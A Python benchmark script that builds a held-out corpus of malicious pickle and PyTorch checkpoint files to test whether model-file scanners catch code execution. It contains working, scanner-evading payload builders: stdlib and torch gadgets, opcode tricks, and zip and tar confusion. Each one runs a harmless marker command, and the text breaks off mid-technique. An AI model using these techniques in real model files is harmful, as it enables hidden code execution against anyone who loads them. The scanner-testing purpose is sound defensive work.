"""Held-out corpus of code-execution techniques against pickle-based loaders.

Why it exists
-------------
openward's own zoo (``openward._zoo``) was written by the people who wrote
the scanner, so scoring well on it proves little. This corpus was written by
a second engineer *before* reading openward's pickle code, from published
work (scanner advisories, vendor research, CVEs) and from CPython's
``Modules/_pickle.c`` semantics. Every technique carries its source, the
loader it targets, and a liveness check that runs that real loader in a
subprocess and asserts the payload's marker file appears. A technique whose
loader is not installable here is kept with the reason its check is skipped.

Payloads are harmless: they create (touch) one marker file.

Usage::

    /work/main/.venv/bin/python benchmarks/heldout/pickle_techniques.py \
        [--out DIR] [--tools openward,picklescan,modelscan,fickling,modelaudit] [--no-live]

The script builds the corpus under ``DIR/corpus``, scans every file with
openward (this checkout's ``src``, ``python -m openward scan FILE --json``)
and with the peers of ``benchmarks/.venv-peers`` (invoked and judged exactly
as ``benchmarks/scan_peers.py`` does), checks that no scanner created a
marker, then runs each liveness check. It writes ``DIR/heldout.json`` and
``DIR/heldout.md`` and prints the Markdown table.

Detection rule: openward detects a file when it reports any finding of
severity high or critical on it; a peer detects it when it flags the file as
dangerous by its own rule (``scan_peers.DEFINITIONS``).
"""

from __future__ import annotations

import argparse
import bz2
import datetime
import io
import json
import os
import shlex
import shutil
import struct
import subprocess
import sys
import tarfile
import tempfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from types import SimpleNamespace
from typing import Any

HERE = Path(__file__).resolve().parent
REPO = HERE.parent.parent
sys.path.insert(0, str(HERE.parent))
sys.path.insert(0, str(REPO / "src"))  # this checkout's openward (phase-2 builders)

LOADER_PYTHON = Path("/work/main/.venv/bin/python")
"""The interpreter that runs the real loaders (torch 2.13, numpy, joblib, pandas)."""

LIVE_TIMEOUT_S = 120.0

# ---------------------------------------------------------------------------
# Pickle opcode helpers: the payloads are written opcode by opcode so that
# each technique is exactly the stream it claims to be.
# ---------------------------------------------------------------------------

PROTO2 = b"\x80\x02"
PROTO4 = b"\x80\x04"
MARK, STOP, REDUCE, TUPLE, TUPLE1, TUPLE2 = b"(", b".", b"R", b"t", b"\x85", b"\x86"
EMPTY_DICT, EMPTY_TUPLE, POP, BUILD = b"}", b")", b"0", b"b"
SETITEM, STACK_GLOBAL, MEMOIZE = b"s", b"\x93", b"\x94"


def glob(module: str, name: str) -> bytes:
    """GLOBAL opcode (text arguments, any protocol)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def ustr(text: str) -> bytes:
    """BINUNICODE."""
    raw = text.encode("utf-8")
    return b"X" + struct.pack("<I", len(raw)) + raw


def bint(value: int) -> bytes:
    """BININT."""
    return b"J" + struct.pack("<i", value)


def call(func: bytes, *args: bytes) -> bytes:
    """``func(*args)`` with MARK/TUPLE/REDUCE."""
    return func + MARK + b"".join(args) + TUPLE + REDUCE


def sdict(pairs: dict[str, bytes]) -> bytes:
    """A dict with string keys and already-encoded values."""
    out = EMPTY_DICT
    for key, value in pairs.items():
        out += ustr(key) + value + SETITEM
    return out


def slist(items: list[bytes]) -> bytes:
    return b"]" + MARK + b"".join(items) + b"e"


class Payload:
    """An object whose pickle calls ``func(*args)`` at load (the classic __reduce__)."""

    def __init__(self, func: Any, *args: Any) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.func, self.args


# ---------------------------------------------------------------------------
# Techniques
# ---------------------------------------------------------------------------


@dataclass
class Ctx:
    """What a builder needs: where to write and what the payload does."""

    path: Path
    marker: Path

    @property
    def cmd(self) -> str:
        return f"touch {shlex.quote(str(self.marker))}"

    @property
    def code(self) -> str:
        return f"open({str(self.marker)!r}, 'w').close()"


@dataclass
class Technique:
    name: str
    filename: str
    loader: str
    """Human-readable loader call."""
    load: str
    """Python source run in a subprocess; ``PATH`` is the file's path (a str)."""
    source: str
    description: str
    build: Callable[[Ctx], None]
    skip: str = ""
    """Why the liveness check is skipped (loader not installable here)."""
    also: dict[str, str] = field(default_factory=dict)
    """Further loaders tried for information only: label -> Python source."""
    group: str = "held-out"
    """``held-out`` (written before openward's code was read) or ``phase 2`` (bypasses
    found by attacking openward's code: tuned by construction, kept apart)."""


TECHNIQUES: list[Technique] = []


def technique(
    name: str,
    filename: str,
    loader: str,
    load: str,
    source: str,
    description: str,
    **extra: Any,
) -> Callable[[Callable[[Ctx], None]], Callable[[Ctx], None]]:
    def register(build: Callable[[Ctx], None]) -> Callable[[Ctx], None]:
        TECHNIQUES.append(
            Technique(name, filename, loader, load, source, description, build, **extra)
        )
        return build

    return register


PICKLE_LOAD = "import pickle\nwith open(PATH, 'rb') as f: pickle.load(f)"
TORCH_LOAD = "import torch\ntorch.load(PATH, weights_only=False)"
TORCH_LOAD_WO = "import torch\ntorch.load(PATH, weights_only=True)"
JOBLIB_LOAD = "import joblib\njoblib.load(PATH)"
NP_LOAD = "import numpy as np\nnp.load(PATH, allow_pickle=True)"


def write_pickle(ctx: Ctx, body: bytes, proto: bytes = PROTO2) -> None:
    ctx.path.write_bytes(proto + body + STOP)


def torch_zip_bytes(obj: Any) -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save(obj, buf)
    return buf.getvalue()


def model_with(payload: Any) -> dict[str, Any]:
    """A small state dict with a payload riding along (what attackers upload)."""
    import torch

    return {"layer.weight": torch.zeros(4, 4), "layer.bias": torch.zeros(4), "_meta": payload}


def system_payload(ctx: Ctx) -> Payload:
    return Payload(os.system, ctx.cmd)


# --- Gadgets that are not on the classic denylists (advisories 2025-2026) ---


@technique(
    "pip-main",
    "pip_main.pkl",
    "pickle.load",
    PICKLE_LOAD,
    "CVE-2025-1716 (Sonatype, picklescan GHSA-655q-fx9r-782v)",
    "pip.main(args) runs pip in-process (installs a package from an attacker URL); "
    "here `pip --log MARKER list` creates the log file.",
)
def _pip_main(ctx: Ctx) -> None:
    args = slist([ustr("--log"), ustr(str(ctx.marker)), ustr("list")])
    write_pickle(ctx, call(glob("pip", "main"), args))


@technique(
    "pydoc-pipepager",
    "pydoc_pipepager.pkl",
    "pickle.load",
    PICKLE_LOAD,
    "picklescan advisories 2025 (pydoc blocklisted in picklescan 0.0.2x)",
    "pydoc.pipepager(text, cmd) runs cmd with shell=True.",
)
def _pydoc(ctx: Ctx) -> None:
    write_pickle(ctx, call(glob("pydoc", "pipepager"), ustr("x"), ustr(ctx.cmd)))


@technique(
    "uuid-get-command-stdout",
    "uuid_cmd.pkl",
    "pickle.load",
    PICKLE_LOAD,
    "CVE-2026-56315 (picklescan < 1.0.4 stdlib bypass: uuid, imaplib, _osx_support, ...)",
    "uuid._get_command_stdout(command, *args) runs any executable on PATH.",
)
def _uuid(ctx: Ctx) -> None:
    write_pickle(
        ctx, call(glob("uuid", "_get_command_stdout"), ustr("touch"), ustr(str(ctx.marker)))
    )


@technique(
    "imaplib-imap4-stream",
    "imaplib.pkl",
    "pickle.load",
    PICKLE_LOAD,
    "CVE-2026-56315 (picklescan < 1.0.4)",
    "imaplib.IMAP4_stream(command) runs the command through subprocess with shell=True "
    "in its constructor (load fails afterwards, the command already ran).",
)
def _imaplib(ctx: Ctx) -> None:
    write_pickle(ctx, call(glob("imaplib", "IMAP4_stream"), ustr(ctx.cmd)))


@technique(
    "osx-support-read-output",
    "osx_support.pkl",
    "pickle.load",
    PICKLE_LOAD,
    "CVE-2026-56315 (picklescan < 1.0.4)",
    "_osx_support._read_output(cmd) runs cmd with os.system; importable on Linux.",
)
def _osx(ctx: Ctx) -> None:
    write_pickle(ctx, call(glob("_osx_support", "_read_output"), ustr(ctx.cmd)))


@technique(
    "logging-filehandler",
    "filehandler.pkl",
    "pickle.load",
    PICKLE_LOAD,
    "CVE-2026-56304 (picklescan < 1.0.1)",
    "logging.FileHandler(path) creates (appends to) any file at construction.",
)
def _filehandler(ctx: Ctx) -> None:
    write_pickle(ctx, call(glob("logging", "FileHandler"), ustr(str(ctx.marker))))


@technique(
    "timeit-timeit",
    "timeit.pkl",
    "pickle.load",
    PICKLE_LOAD,
    "GHSA-v7x6-rv5q-mhwc (picklescan)",
    "timeit.timeit(stmt, 'pass', time.perf_counter, 1) compiles and runs stmt.",
)
def _timeit(ctx: Ctx) -> None:
    write_pickle(
        ctx,
        call(
            glob("timeit", "timeit"),
            ustr(ctx.code),
            ustr("pass"),
            glob("time", "perf_counter"),
            bint(1),
        ),
    )


@technique(
    "cprofile-run",
    "cprofile.pkl",
    "pickle.load",
    PICKLE_LOAD,
    "GHSA-7wx9-6375-f5wh (picklescan, profile/cProfile)",
    "cProfile.run(statement) execs the statement under the profiler.",
)
def _cprofile(ctx: Ctx) -> None:
    write_pickle(ctx, call(glob("cProfile", "run"), ustr(ctx.code)))


@technique(
    "pkgutil-resolve-name",
    "pkgutil_resolve.pkl",
    "pickle.load",
    PICKLE_LOAD,
    "GHSA-vvpj-8cmc-gx39 (picklescan)",
    "pkgutil.resolve_name('os:system') returns os.system from a string; the result is "
    "then called by REDUCE, so no GLOBAL names the primitive.",
)
def _pkgutil(ctx: Ctx) -> None:
    fn = call(glob("pkgutil", "resolve_name"), ustr("os:system"))
    write_pickle(ctx, fn + MARK + ustr(ctx.cmd) + TUPLE + REDUCE)


@technique(
    "ensurepip-run-pip",
    "ensurepip.pkl",
    "pickle.load",
    PICKLE_LOAD,
    "GHSA-xp4f-hrf8-rxw7 (picklescan)",
    "ensurepip._run_pip(args) starts a Python subprocess running pip with the given args.",
)
def _ensurepip(ctx: Ctx) -> None:
    args = slist([ustr("--log"), ustr(str(ctx.marker)), ustr("list")])
    write_pickle(ctx, call(glob("ensurepip", "_run_pip"), args))


@technique(
    "mailcap-findmatch",
    "mailcap.pkl",
    "pickle.load",
    PICKLE_LOAD,
    "openward issue 12 (outside acceptance run), mailcap test commands via os.system",
    "mailcap.findmatch(caps, type) runs each entry's `test` command with os.system.",
)
def _mailcap(ctx: Ctx) -> None:
    entry = sdict({"view": ustr("x"), "test": ustr(ctx.cmd)})
    caps = sdict({"a/b": slist([entry])})
    write_pickle(ctx, call(glob("mailcap", "findmatch"), caps, ustr("a/b")))


@technique(
    "runpy-run-code",
    "runpy.pkl",
    "pickle.load",
    PICKLE_LOAD,
    "picklescan blocklist entry `runpy` (advisory 2025: runpy._run_code)",
    "runpy._run_code(code, globals) is exec() under another name.",
)
def _runpy(ctx: Ctx) -> None:
    write_pickle(ctx, call(glob("runpy", "_run_code"), ustr(ctx.code), EMPTY_DICT))


@technique(
    "torch-collect-env-run",
    "collect_env.pkl",
    "pickle.load",
    PICKLE_LOAD,
    "picklescan advisory (torch.utils.collect_env.run), openward issue 12",
    "torch.utils.collect_env.run(command) runs a shell command.",
)
def _collect_env(ctx: Ctx) -> None:
    write_pickle(ctx, call(glob("torch.utils.collect_env", "run"), ustr(ctx.cmd)))


@technique(
    "torch-jit-execwrapper",
    "execwrapper.pkl",
    "pickle.load",
    PICKLE_LOAD,
    "picklescan advisory (torch.jit.unsupported_tensor_ops.execWrapper)",
    "execWrapper(code, glob, loc) is exec() inside torch.",
)
def _execwrapper(ctx: Ctx) -> None:
    fn = glob("torch.jit.unsupported_tensor_ops", "execWrapper")
    write_pickle(ctx, call(fn, ustr(ctx.code), EMPTY_DICT, EMPTY_DICT))


@technique(
    "numpy-testing-runstring",
    "runstring.pkl",
    "pickle.load",
    PICKLE_LOAD,
    "picklescan advisory (numpy.testing._private.utils.runstring; Lyutoon's numpy gadgets)",
    "numpy's runstring(astr, dict) is exec().",
)
def _runstring(ctx: Ctx) -> None:
    fn = glob("numpy.testing._private.utils", "runstring")
    write_pickle(ctx, call(fn, ustr(ctx.code), EMPTY_DICT))


# --- Calls hidden behind helpers of well-known libraries (derived) ---


@technique(
    "torch-import-dotted-name",
    "torch_dotted.pkl",
    "pickle.load",
    PICKLE_LOAD,
    "derived: torch/_utils.py `_import_dotted_name` (same class as pkgutil.resolve_name, "
    "inside a module scanners trust for its _rebuild_* helpers)",
    "torch._utils._import_dotted_name('os.system') imports by string; REDUCE calls the result.",
)
def _torch_dotted(ctx: Ctx) -> None:
    fn = call(glob("torch._utils", "_import_dotted_name"), ustr("os.system"))
    write_pickle(ctx, fn + MARK + ustr(ctx.cmd) + TUPLE + REDUCE)


@technique(
    "torch-rebuild-from-type-v2-calls-func",
    "rebuild_from_type.pt",
    "torch.load(weights_only=False)",
    TORCH_LOAD,
    "derived: torch/_tensor.py `_rebuild_from_type_v2(func, new_type, args, state)` "
    "calls func(*args); Tensor subclasses pickle through it",
    "A real torch zip whose data.pkl reduces an allowlisted torch rebuild helper and hands "
    "it os.system as `func`: the primitive is only an argument, the call is inside torch.",
    also={"torch.load(weights_only=True)": TORCH_LOAD_WO},
)
def _rebuild_from_type(ctx: Ctx) -> None:
    import torch

    payload = Payload(torch._tensor._rebuild_from_type_v2, os.system, torch.Tensor, (ctx.cmd,), {})
    ctx.path.write_bytes(torch_zip_bytes(model_with(payload)))


@technique(
    "functools-partial-build-swap",
    "partial_build.pkl",
    "pickle.load",
    PICKLE_LOAD,
    "derived: Modules/_functoolsmodule.c partial_setstate (BUILD replaces func/args); "
    "picklescan lists functools.partial",
    "functools.partial(print) is built, then BUILD's state swaps its func for exec and "
    "its args for the code; REDUCE calls the partial with no arguments.",
)
def _partial(ctx: Ctx) -> None:
    part = call(glob("functools", "partial"), glob("builtins", "print"))
    state = (
        MARK + glob("builtins", "exec") + MARK + ustr(ctx.code) + TUPLE + EMPTY_DICT + b"N" + TUPLE
    )
    write_pickle(ctx, part + state + BUILD + EMPTY_TUPLE + REDUCE)


@technique(
    "copyreg-extension-registry",
    "copyreg_ext.pkl",
    "pickle.load",
    PICKLE_LOAD,
    "derived: Modules/_pickle.c load_extension reads copyreg._inverted_registry",
    "copyreg.add_extension('os', 'system', code) registers a code at load; EXT2 then "
    "fetches os.system by number, with no GLOBAL naming it.",
)
def _copyreg_ext(ctx: Ctx) -> None:
    reg = call(glob("copyreg", "add_extension"), ustr("os"), ustr("system"), bint(0x6A6A))
    ext = b"\x83" + struct.pack("<H", 0x6A6A)
    write_pickle(ctx, reg + POP + ext + MARK + ustr(ctx.cmd) + TUPLE + REDUCE)


@technique(
    "setstate-planting",
    "setstate_plant.pkl",
    "pickle.load",
    PICKLE_LOAD,
    "derived: Modules/_pickle.c load_build looks __setstate__ up on the instance; "
    "fickling's BUILD analysis",
    "A first BUILD puts {'__setstate__': os.system} into a SimpleNamespace's __dict__; a "
    "second BUILD then 'sets state' by calling os.system(cmd). No REDUCE calls the primitive.",
)
def _setstate(ctx: Ctx) -> None:
    obj = call(glob("types", "SimpleNamespace"))
    first = sdict({"__setstate__": glob("os", "system")}) + BUILD
    write_pickle(ctx, obj + first + ustr(ctx.cmd) + BUILD)


@technique(
    "logging-dictconfig-factory",
    "dictconfig.pkl",
    "pickle.load",
    PICKLE_LOAD,
    "derived: Lib/logging/config.py configure_handler resolves the '()' factory by "
    "dotted string and calls it with the other keys",
    "logging.config.dictConfig({... 'handlers': {'h': {'()': 'os.system', 'command': cmd}}}): "
    "the primitive is a string in a dict.",
)
def _dictconfig(ctx: Ctx) -> None:
    handler = sdict({"()": ustr("os.system"), "command": ustr(ctx.cmd)})
    config = sdict({"version": bint(1), "handlers": sdict({"h": handler})})
    write_pickle(ctx, call(glob("logging.config", "dictConfig"), config))


@technique(
    "torch-storage-load-from-bytes",
    "load_from_bytes.pkl",
    "pickle.load",
    PICKLE_LOAD,
    "derived: torch/storage.py `_load_from_bytes(b)` = torch.load(BytesIO(b), "
    "weights_only=False); plain-pickled storages use it legitimately",
    "The outer pickle only calls a torch helper with a bytes argument; the payload is a "
    "whole torch.save zip inside those bytes.",
)
def _from_bytes(ctx: Ctx) -> None:
    inner = torch_zip_bytes(model_with(system_payload(ctx)))
    arg = b"B" + struct.pack("<I", len(inner)) + inner  # BINBYTES
    write_pickle(ctx, call(glob("torch.storage", "_load_from_bytes"), arg), proto=b"\x80\x03")


# --- Parser semantics (CPython _pickle.c) ---


@technique(
    "inst-opcode-proto0",
    "inst.pkl",
    "pickle.load",
    PICKLE_LOAD,
    "derived: Modules/_pickle.c load_inst/instantiate calls any callable",
    "Protocol 0 INST 'posix system' with a string argument: a call with no REDUCE, "
    "through the platform alias of os.",
)
def _inst(ctx: Ctx) -> None:
    ctx.path.write_bytes(b"(S'" + ctx.cmd.encode() + b"'\niposix\nsystem\n.")


@technique(
    "obj-opcode",
    "obj.pkl",
    "pickle.load",
    PICKLE_LOAD,
    "derived: Modules/_pickle.c load_obj",
    "OBJ pops a callable and its arguments after a MARK and calls it (builtins.exec).",
)
def _obj(ctx: Ctx) -> None:
    write_pickle(ctx, MARK + glob("builtins", "exec") + ustr(ctx.code) + b"o")


@technique(
    "fix-imports-commands",
    "fix_imports.pkl",
    "pickle.load",
    PICKLE_LOAD,
    "derived: Lib/_compat_pickle.py IMPORT_MAPPING ('commands' -> 'subprocess'), "
    "applied by find_class for protocol < 3",
    "GLOBAL 'commands getoutput' is subprocess.getoutput once fix_imports maps the "
    "Python 2 module name.",
)
def _fix_imports(ctx: Ctx) -> None:
    write_pickle(ctx, call(glob("commands", "getoutput"), ustr(ctx.cmd)))


@technique(
    "dotted-stack-global-allowlisted-module",
    "dotted_torch_serialization.pkl",
    "pickle.load",
    PICKLE_LOAD,
    "derived: protocol >= 4 find_class walks dotted names (Lib/pickle.py _getattribute); "
    "openward issue 12 (posixpath + os.system)",
    "STACK_GLOBAL('torch.serialization', 'os.system'): a trusted module, a dotted name "
    "that walks to os.system.",
)
def _dotted(ctx: Ctx) -> None:
    body = ustr("torch.serialization") + ustr("os.system") + STACK_GLOBAL
    write_pickle(ctx, call(body, ustr(ctx.cmd)), proto=PROTO4)


@technique(
    "mid-stream-proto-dotted-global",
    "mid_proto.pkl",
    "pickle.load",
    PICKLE_LOAD,
    "derived: Modules/_pickle.c load_proto may run anywhere and changes find_class",
    "Starts as protocol 2; a PROTO 4 opcode in the middle turns on dotted-name resolution "
    "for a text GLOBAL 'torch.serialization os.system'.",
)
def _mid_proto(ctx: Ctx) -> None:
    body = b"N" + POP + PROTO4 + call(glob("torch.serialization", "os.system"), ustr(ctx.cmd))
    write_pickle(ctx, body)


@technique(
    "unicode-escaped-names",
    "unicode_names.pkl",
    "pickle.load",
    PICKLE_LOAD,
    "derived: protocol-0 UNICODE opcode is raw-unicode-escape; STACK_GLOBAL needs no PROTO header",
    "No protocol header; module and name come from `V\\u006fs` / `V\\u0073ystem`, so the "
    "bytes never spell 'os' or 'system'.",
)
def _unicode(ctx: Ctx) -> None:
    body = b"V\\u006fs\nV\\u0073ystem\n" + STACK_GLOBAL
    ctx.path.write_bytes(body + b"(V" + ctx.cmd.encode() + b"\ntR.")


@technique(
    "memo-overwrite-indirection",
    "memo_overwrite.pkl",
    "pickle.load",
    PICKLE_LOAD,
    "picklescan issue #22 (imaginaryCTF 'Safe Pickle': memo handling), GHSA-9gvj-pp9x-gcfr",
    "Memo slot 1 first holds 'collections', is overwritten with 'os'; STACK_GLOBAL reads "
    "its names through BINGET, the callable is memoized and called much later.",
)
def _memo(ctx: Ctx) -> None:
    body = (
        ustr("collections")
        + b"q\x01"
        + POP  # BINPUT 1 = 'collections'
        + ustr("OrderedDict")
        + b"q\x02"
        + POP
        + ustr("os")
        + b"q\x01"
        + POP  # overwrite slot 1
        + ustr("system")
        + b"q\x02"
        + POP
        + b"h\x01h\x02"
        + STACK_GLOBAL
        + b"q\x03"
        + POP  # callable parked in slot 3
        + b"N"
        + POP
        + b"h\x03"
        + MARK
        + ustr(ctx.cmd)
        + TUPLE
        + REDUCE
    )
    write_pickle(ctx, body, proto=PROTO4)


@technique(
    "broken-pickle-tail",
    "broken.pkl",
    "pickle.load (raises after the payload ran)",
    "import pickle\ntry:\n    pickle.load(open(PATH, 'rb'))\n"
    "except Exception as e:\n    print('raised', type(e).__name__)",
    "ReversingLabs nullifAI (Feb 2025): payload at the start, stream broken afterwards",
    "os.system runs, then an invalid opcode stops the unpickler; scanners that give up on "
    "the error report nothing.",
)
def _broken(ctx: Ctx) -> None:
    body = call(glob("os", "system"), ustr(ctx.cmd)) + POP
    ctx.path.write_bytes(PROTO2 + body + b"\xff\xfe garbage that is no opcode")


@technique(
    "sevenzip-broken-pickle",
    "model.7z",
    "py7zr extract + torch.load(weights_only=False)",
    "import py7zr, tempfile, os, torch\nd = tempfile.mkdtemp()\n"
    "py7zr.SevenZipFile(PATH).extractall(d)\n"
    "try:\n    torch.load(os.path.join(d, 'model.pt'), weights_only=False)\n"
    "except Exception as e:\n    print('raised', type(e).__name__)",
    "ReversingLabs nullifAI (Feb 2025): 7z-compressed PyTorch model with a broken pickle",
    "A 7z archive holding model.pt whose pickle runs the payload and is then broken.",
)
def _sevenzip(ctx: Ctx) -> None:
    import py7zr

    body = PROTO2 + call(glob("os", "system"), ustr(ctx.cmd)) + POP + b"\xff broken"
    with tempfile.TemporaryDirectory() as tmp:
        inner = Path(tmp) / "model.pt"
        inner.write_bytes(body)
        with py7zr.SevenZipFile(ctx.path, "w") as archive:
            archive.write(inner, "model.pt")


# --- Zip tricks: torch.load (miniz) and zipfile disagree ---


def _zip_entries(data: bytes) -> list[tuple[str, int, int]]:
    """(name, local header offset, central entry offset) for each entry."""
    out = []
    eocd = data.rfind(b"PK\x05\x06")
    count = struct.unpack_from("<H", data, eocd + 10)[0]
    pos = struct.unpack_from("<I", data, eocd + 16)[0]
    for _ in range(count):
        nlen, xlen, clen = struct.unpack_from("<HHH", data, pos + 28)
        local = struct.unpack_from("<I", data, pos + 42)[0]
        name = data[pos + 46 : pos + 46 + nlen].decode()
        out.append((name, local, pos))
        pos += 46 + nlen + xlen + clen
    return out


def _payload_torch_zip(ctx: Ctx) -> bytes:
    return torch_zip_bytes(model_with(system_payload(ctx)))


@technique(
    "torch-zip-crc-mismatch",
    "crc.pt",
    "torch.load(weights_only=False)",
    TORCH_LOAD,
    "CVE-2025-10156 (JFrog, picklescan): zip CRC errors stop zipfile, not torch.load",
    "The data.pkl CRC-32 is wrong in both headers; Python's zipfile raises BadZipFile "
    "on read, PyTorch's reader ignores it.",
)
def _crc(ctx: Ctx) -> None:
    data = bytearray(_payload_torch_zip(ctx))
    for name, local, central in _zip_entries(bytes(data)):
        if name.endswith("/data.pkl"):
            struct.pack_into("<I", data, local + 14, 0xDEADBEEF)
            struct.pack_into("<I", data, central + 16, 0xDEADBEEF)
    ctx.path.write_bytes(bytes(data))


@technique(
    "torch-zip-local-name-mismatch",
    "name_mismatch.pt",
    "torch.load(weights_only=False)",
    TORCH_LOAD,
    "CVE-2025-1944 (Sonatype, picklescan): local header file name differs from the "
    "central directory",
    "The local header of data.pkl names 'xxxxxxx/data.pkl'; zipfile raises 'File name in "
    "directory and header differ', torch.load reads by the central directory.",
)
def _name_mismatch(ctx: Ctx) -> None:
    data = bytearray(_payload_torch_zip(ctx))
    for name, local, _central in _zip_entries(bytes(data)):
        if name.endswith("/data.pkl"):
            nlen = struct.unpack_from("<H", data, local + 26)[0]
            data[local + 30 : local + 30 + nlen] = b"x" * (nlen - 9) + b"/data.pkl"
    ctx.path.write_bytes(bytes(data))


@technique(
    "torch-zip-flag-bits",
    "flag_bits.pt",
    "torch.load(weights_only=False)",
    TORCH_LOAD,
    "CVE-2025-1945 (Sonatype, picklescan): general-purpose flag bits flipped. On torch "
    "2.13 the encryption/patch bits (0x1, 0x20, 0x40) stop miniz as well, so the live "
    "variant is the UTF-8 name bit (0x800)",
    "Member names are non-ASCII ('modèle/...'); bit 0x800 is cleared in the central "
    "directory only, so zipfile decodes the two names differently and raises, while "
    "PyTorch's reader compares bytes and loads.",
)
def _flag_bits(ctx: Ctx) -> None:
    members = [("modèle/" + n.split("/", 1)[1], c) for n, c in _members(_payload_torch_zip(ctx))]
    data = bytearray(_rezip(members, {}))
    for _name, _local, central in _zip_entries(bytes(data)):
        flags = struct.unpack_from("<H", data, central + 8)[0]
        struct.pack_into("<H", data, central + 8, flags & ~0x800)
    ctx.path.write_bytes(bytes(data))


def _rezip(members: list[tuple[str, bytes]], compress: dict[str, int]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as out:
        for name, content in members:
            out.writestr(zipfile.ZipInfo(name), content, compress.get(name, zipfile.ZIP_STORED))
    return buf.getvalue()


def _members(blob: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(blob)) as archive:
        return [(i.filename, archive.read(i)) for i in archive.infolist()]


@technique(
    "torch-zip-deflated-data-pkl",
    "deflated.pt",
    "torch.load(weights_only=False)",
    TORCH_LOAD,
    "derived: PyTorch's miniz reader inflates any member; torch.save writes stored ones",
    "data.pkl is stored deflate-compressed, so its opcodes are not in the file's bytes.",
    also={"torch.load(weights_only=True)": TORCH_LOAD_WO},
)
def _deflated(ctx: Ctx) -> None:
    members = _members(_payload_torch_zip(ctx))
    names = {n: zipfile.ZIP_DEFLATED for n, _ in members if n.endswith("data.pkl")}
    ctx.path.write_bytes(_rezip(members, names))


@technique(
    "torch-zip-duplicate-member",
    "duplicate.pt",
    "torch.load(weights_only=False)",
    TORCH_LOAD,
    "derived: zipfile keeps the last of two same-named entries, miniz's lookup "
    "finds another (ZipSlip-style archive confusion, cf. CVE-2025-1944)",
    "Two '<archive>/data.pkl' entries: a benign one and the payload; each reader picks its own.",
)
def _duplicate(ctx: Ctx) -> None:
    import torch

    evil = _members(_payload_torch_zip(ctx))
    benign = dict(_members(torch_zip_bytes({"layer.weight": torch.zeros(4, 4)})))
    prefix = evil[0][0].split("/")[0]
    benign_pkl = benign[next(n for n in benign if n.endswith("/data.pkl"))]
    out: list[tuple[str, bytes]] = []
    for name, content in evil:
        out.append((name, content))
    out.append((f"{prefix}/data.pkl", benign_pkl))  # last entry: zipfile's view
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        ctx.path.write_bytes(_rezip(out, {}))


@technique(
    "pickle-with-benign-zip-appended",
    "polyglot_pickle_zip.pt",
    "torch.load(weights_only=False)",
    "import torch\ntry:\n    torch.load(PATH, weights_only=False)\n"
    "except Exception as e:\n    print('raised', type(e).__name__)",
    "Trail of Bits, 'PyTorch polyglots' (fickling polyglot module, 2024); torch.load "
    "treats a file as zip only if it starts with PK\\x03\\x04",
    "A payload pickle followed by a complete benign torch.save zip: zip readers see a "
    "clean checkpoint (central directory at the end), torch.load's legacy path unpickles "
    "from byte 0.",
)
def _polyglot(ctx: Ctx) -> None:
    import torch

    head = PROTO2 + call(glob("os", "system"), ustr(ctx.cmd)) + STOP
    ctx.path.write_bytes(head + torch_zip_bytes({"layer.weight": torch.zeros(4, 4)}))


# --- Legacy torch formats ---


@technique(
    "torch-legacy-storage-keys-pickle",
    "legacy_keys.pt",
    "torch.load(weights_only=False)",
    TORCH_LOAD,
    "derived: torch/serialization.py _legacy_load reads five pickles in a row "
    "(magic, protocol, sys_info, object, storage keys)",
    "A legacy (non-zip) checkpoint whose last pickle, the storage-key list read after "
    "the model object, carries the payload.",
    also={"torch.load(weights_only=True)": TORCH_LOAD_WO},
)
def _legacy_keys(ctx: Ctx) -> None:
    import torch

    buf = io.BytesIO()
    torch.save({"w": torch.zeros(2)}, buf, _use_new_zipfile_serialization=False)
    data = buf.getvalue()
    # Find the storage-keys pickle: the 5th stacked pickle. Walk with pickletools.
    import pickletools

    pos = 0
    starts = []
    for _ in range(5):
        starts.append(pos)
        for op, _arg, at in pickletools.genops(io.BytesIO(data[pos:])):
            if op.name == "STOP":
                pos += at + 1
                break
    keys_start, keys_end = starts[4], pos
    keys = data[keys_start:keys_end]
    # keys is e.g. \x80\x02]q\x00X\x01\x00\x00\x000q\x01a.  -> prepend a call and POP it
    evil = keys[:2] + call(glob("os", "system"), ustr(ctx.cmd)) + POP + keys[2:]
    ctx.path.write_bytes(data[:keys_start] + evil + data[keys_end:])


@technique(
    "torch-legacy-tar-storages",
    "legacy_tar.pt",
    "torch.load(weights_only=False)",
    "import torch\ntry:\n    torch.load(PATH, weights_only=False)\n"
    "except Exception as e:\n    print('raised', type(e).__name__)",
    "Trail of Bits fickling polyglot research (PyTorch v0.1.1 tar format); "
    "torch/serialization.py legacy_load (tar branch)",
    "A PyTorch 0.1.x tar checkpoint: torch.load unpickles the 'storages' member first; "
    "the payload is there, not in 'pickle'.",
    also={"torch.load(weights_only=True)": TORCH_LOAD_WO},
)
def _legacy_tar(ctx: Ctx) -> None:
    storages = PROTO2 + call(glob("os", "system"), ustr(ctx.cmd)) + POP + b"K\x00" + STOP
    members = {
        "sys_info": pickle_dumps(
            {
                "protocol_version": 1001,
                "little_endian": True,
                "type_sizes": {"short": 2, "int": 4, "long": 4},
            }
        ),
        "storages": storages,
        "tensors": pickle_dumps(0),
        "pickle": pickle_dumps({}),
    }
    with tarfile.open(ctx.path, "w:", format=tarfile.PAX_FORMAT) as tar:
        for name, content in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            tar.addfile(info, io.BytesIO(content))


def pickle_dumps(obj: Any) -> bytes:
    import pickle

    return pickle.dumps(obj, protocol=2)


@technique(
    "torchscript-via-torch-load",
    "scripted.pt",
    "torch.load(weights_only=False) -> torch.jit.load",
    TORCH_LOAD,
    "CVE-2025-32434 / GHSA-53q9-r3pm-6pq6 (torch.load dispatches TorchScript archives to "
    "torch.jit.load; with weights_only=True before 2.6); openward issue 12 item 6",
    "A TorchScript module whose __setstate__ calls torch.from_file(MARKER, shared=True): "
    "the file is created while torch.load reads the archive.",
    also={"torch.load(weights_only=True)": TORCH_LOAD_WO},
)
def _torchscript(ctx: Ctx) -> None:
    src = f"""
import torch
class M(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.w = torch.zeros(1)
    @torch.jit.export
    def __getstate__(self):
        return (self.w, self.training)
    @torch.jit.export
